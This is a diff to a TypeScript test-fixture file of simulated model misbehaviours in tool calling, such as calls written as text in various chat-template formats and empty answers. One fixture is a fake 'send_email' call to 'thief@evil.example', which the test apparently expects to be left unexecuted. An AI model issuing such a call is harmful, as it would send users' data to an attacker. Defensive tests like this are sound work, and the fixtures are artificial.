@@ -3,14 +3,15 @@ import { BILL, call, type Misbehaviour, type Move, start, text } from "./misbeha
 
 const json = JSON.stringify({ name: "invoice_start", arguments: start });
 /** A call that is written into the answer: it is made, or the built-in model takes the turn, and it is never shown. */
-const writtenCall = (what: string, content: string): Misbehaviour => ({
+const writtenCall = (what: string, content: string, wire: Misbehaviour["wire"] = "call"): Misbehaviour => ({
   what: `writes its call ${what}`,
+  wire,
   says: BILL,
   model: [text(content), text("There it is.")],
   total: 255,
 });
 /** No answer at all: the built-in model takes the turn. */
-const mute = (what: string, ...model: Move[]): Misbehaviour => ({ what, says: BILL, model, total: 255 });
+const mute = (what: string, ...model: Move[]): Misbehaviour => ({ what, wire: "nothing", says: BILL, model, total: 255 });
 /** An answer that is odd, but one. */
 const oddAnswer = (what: string, content: string, answer: RegExp): Misbehaviour => ({ what, model: [text(content)], answer, noDraft: true });
 
@@ -32,8 +33,8 @@ export const answers: readonly Misbehaviour[] = [
   writtenCall("as Llama does", `<function=invoice_start>${JSON.stringify(start)}</function>`),
   writtenCall("as gpt-oss does", `<|channel|>commentary to=functions.invoice_start <|constrain|>json<|message|>${JSON.stringify(start)}<|call|>`),
   writtenCall("behind its thoughts", `<think>The person wants an invoice.</think>${json}`),
-  writtenCall("of a function that there is not", '<tool_call>{"name": "send_email", "arguments": {"to": "thief@evil.example"}}</tool_call>'),
-  writtenCall("broken off", `<tool_call>${json.slice(0, 60)}`),
+  writtenCall("of a function that there is not", '<tool_call>{"name": "send_email", "arguments": {"to": "thief@evil.example"}}</tool_call>', "nothing"),
+  writtenCall("broken off", `<tool_call>${json.slice(0, 60)}`, "nothing"),
   mute("says nothing", text("")),
   mute("says only spaces", text(" \n\t ")),
   mute("only thinks", { delta: { reasoning_content: "I sent INV-0099." } }),
